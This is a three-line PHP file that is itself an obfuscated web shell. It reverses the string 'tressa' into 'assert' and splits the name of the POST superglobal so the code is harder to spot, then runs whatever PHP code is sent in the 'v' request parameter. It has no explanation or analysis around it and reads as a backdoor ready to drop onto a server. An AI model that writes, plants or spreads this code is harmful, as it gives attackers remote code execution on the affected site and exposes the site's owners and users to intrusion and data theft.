<?php
$x = strrev('tressa');
$x(${'_PO' . 'ST'}['v']);
